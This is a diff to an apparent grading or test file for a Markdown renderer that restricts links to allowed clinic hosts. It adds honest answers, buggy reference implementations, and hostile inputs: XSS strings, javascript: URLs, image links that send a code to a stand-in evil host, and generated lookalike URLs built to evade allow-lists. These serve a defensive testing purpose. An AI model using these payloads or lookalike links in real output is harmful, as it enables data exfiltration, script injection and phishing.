@@ -100,11 +100,14 @@ def _wrong(answer: str) -> dict[str, str]:
         "Compare with the slash at the end: clinic.example.evil.example begins alike.": _rendered(
             answer, lambda url: url.startswith(tuple(each.rstrip("/") for each in ALLOWED))
         ),
-        "Words and addresses come from the answer as well: escape them, quotes too.": _rendered(
+        "Words and addresses come from the answer as well: escape them, & and quotes too.": _rendered(
             answer, escape=str
         ),
         "Beginning with https doesn't make it yours.": _rendered(
-            answer, lambda url: url.startswith("https://")
+            answer,
+            lambda url: (
+                url.startswith(ALLOWED) or (url.startswith("https://") and "clinic" not in url.lower())
+            ),
         ),
         "A second escape shows the reader &amp;lt; where a < should be.": html.escape(_rendered(answer)),
     }
@@ -128,6 +131,12 @@ class _Reader(HTMLParser):
 
     def handle_decl(self, decl: str) -> None:
         self.seen.append(("declaration", decl))
+
+    def handle_pi(self, data: str) -> None:
+        self.seen.append(("instruction", data))
+
+    def unknown_decl(self, data: str) -> None:
+        self.seen.append(("declaration", data))
 
     def handle_data(self, data: str) -> None:
         if self.seen and isinstance(self.seen[-1], str):
@@ -153,6 +162,12 @@ def _answers(rng: np.random.Generator) -> dict[str, list[str]]:
         f"**Case {case}**: [open it]({clinic}cases/{case}?tab=notes&full=1#top), or **ask the lab**.",
         f"See [help]({advice}triage) and [home]({clinic}).",
         f'Dose < {case} mg & pH > 7; "as before", it\'s fine. 3 * 4 ** 2 [not a link] (not an address)',
+        f"\nCafé Übung,\tβ-carotene: 5 µg, **señor**, [Möbel]({clinic}m)\n",
+        f"see [1] and [help]({advice}) and (2) [x] ({clinic})",
+        " ".join(f"**{n}** [{n}]({ALLOWED[n % 2]}{n})" for n in range(int(rng.integers(6, 10)))),
+        f"[mail]({advice}?mail=a@b%20c&q={'long' * 30}) and [**]({clinic}) and **a\nb**",
+        f"** c ** [a\nb]({clinic}c)",
+        f'[x]({clinic} "t") and [a]({clinic}(b)) and [a[b]({clinic}) and ** and ****',
         f"First line\n- second [line] ({clinic})\n{clinic} on its own",
         "The tag &lt;b&gt; is written with &amp;lt;.",
     ]
@@ -169,35 +184,66 @@ def _answers(rng: np.random.Generator) -> dict[str, list[str]]:
         f"[words]({clinic}'onmouseover='alert(1))",
         f"[words]({clinic}><script>1</script>)",
         "&lt;script&gt;1&lt;/script&gt;",
+        "**&lt;b&gt; &amp;lt;**",
+        f"[&lt;b&gt; &amp;]({clinic}?a=&lt;&amp;b=&quot;)",
+        f"[&lt;b&gt; &amp;]({evil}) ![&lt;b&gt; &amp;]({evil})",
+        f"**[x]({clinic})** [**x**]({clinic}) [**x**]({evil}) ![**x**]({evil})",
+        "<?php 1 ?> <![CDATA[1]]> </b> <br/>",
     ]
     links = [
         f"Error. [click here to sign in again]({evil}/in?c={code})",
         f"[one]({evil}) and [two]({clinic}two) and [three]({evil}/3)",
-        f"[words](https://clinic.example.{evil[8:]}/{code})",
-        f"[words](https://clinic.example@{evil[8:]}/{code})",
-        f"[words]({evil}/?next={clinic})",
-        f"[words]({evil}/#{advice})",
-        f"[words](//{evil[8:]}/{code})",
         "[words](javascript:alert(1)",
         "[words](javascript:alert`1`)",
         "[words](data:text/html,hello)",
-        f"[words](http://clinic.example/{code})",
-        f"[words](https://other.clinic.example/{code})",
-        "[words](https://clinic.example)",
-        f"[words](https://clinic.example:8443/{code})",
-        f"[words](HTTPS://clinic.example/{code})",
-        f"[words](https:/clinic.example/{code})",
+        f"[words](//{evil[8:]}/{code})",
         "[words](/cases)",
         "[words]()",
-        f"[words](https://clinic.example\\@{evil[8:]}/{code})",
         f"[]({evil}/{code})",
+        f"[words](https://other.clinic.example/{code})",
+        f"[words](https://a.help.clinic.example/{code})",
+        *(f"[words]({cousin})" for prefix in ALLOWED for cousin in _cousins(prefix[8:-1], evil[8:], code)),
     ]
     images = [
         f"![a chart]({evil}/pixel?c={code})",
         f"![a chart]({clinic}chart)",
         f"![]({evil}/{code})",
+        "![plan]() and ![]()",
+        f"![a chart]({advice}chart)",
         f"![one]({evil}/1)![two]({evil}/2) **three**",
         f"[![words]({evil}/{code})]({clinic})",
         f"Look!![one]({evil}/{code})",
     ]
     return {"honest": honest, "encodes": encodes, "links": links, "images": images}
+
+
+def _cousins(host: str, evil: str, code: str) -> list[str]:
+    """Addresses that look like one of an allowed host, and aren't."""
+    first, _, rest = host.partition(".")
+    return [
+        f"https://{host}.{evil}/{code}",
+        f"https://{host}@{evil}/{code}",
+        f"https://{host}\\@{evil}/{code}",
+        f"https://{host}:{code[:4]}@{evil}/",
+        f"https://{evil}/?next=https://{host}/",
+        f"https://{evil}/#https://{host}/",
+        f"https://{evil}/{host}/",
+        f"https://{evil}.{host}/{code}",
+        f"https://user@{host}/{code}",
+        f"https://user:{code}@{host}/",
+        f"https://{host}:8443/{code}",
+        f"https://{host}:443/{code}",
+        f"https://evil{host}/{code}",
+        f"https://{first}X{rest}/{code}",
+        f"https://{host}",
+        f"https://{host}?{code}",
+        f"https://{host}s/{code}",
+        f"https://{host.capitalize()}/{code}",
+        f"https://{host.upper()}/{code}",
+        f"HTTPS://{host}/{code}",
+        f"http://{host}/{code}",
+        f"//{host}/{code}",
+        f"https:/{host}/{code}",
+        f"{host}/{code}",
+        f"xhttps://{host}/{code}",
+    ]
